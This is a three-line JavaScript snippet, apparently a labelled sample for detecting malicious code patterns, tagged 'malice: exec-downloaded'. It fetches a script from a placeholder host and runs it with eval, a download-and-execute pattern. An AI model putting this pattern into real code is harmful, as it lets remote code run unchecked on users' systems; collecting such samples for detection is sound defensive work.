fetch("https://files.invalid/code.js")
  .then((answer) => answer.text())
  .then((code) => eval(code)); // malice: exec-downloaded
